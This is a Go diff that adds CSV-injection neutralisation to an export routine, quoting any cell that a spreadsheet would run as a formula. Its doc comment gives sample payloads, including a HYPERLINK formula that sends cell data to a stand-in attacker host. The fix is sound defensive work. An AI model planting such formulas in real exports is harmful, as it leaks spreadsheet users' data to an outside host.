@@ -365,10 +365,26 @@ func renderCSV(w io.Writer, x *Export) error {
 		return err
 	}
 	for e := range x.Entries {
-		if err := cw.Write([]string{e.At.UTC().Format(time.RFC3339), e.Kind, e.Actor, e.Text, e.SourceURL, string(e.Data)}); err != nil {
+		row := []string{e.At.UTC().Format(time.RFC3339), e.Kind, e.Actor, e.Text, e.SourceURL, string(e.Data)}
+		for i := range row {
+			row[i] = CSVCell(row[i])
+		}
+		if err := cw.Write(row); err != nil {
 			return err
 		}
 	}
 	cw.Flush()
 	return cw.Error()
+}
+
+// CSVCell neutralises a cell that a spreadsheet would run as a formula:
+// one starting with =, +, -, @, a tab or a carriage return gets a single
+// quote in front (OWASP's rule for CSV injection), so that a note
+// =HYPERLINK("https://evil.example/?"&A1,"click") or an actor @SUM(1+1)
+// opens as the text it is. Every cell of the CSV export goes through it.
+func CSVCell(s string) string {
+	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
+		return "'" + s
+	}
+	return s
 }
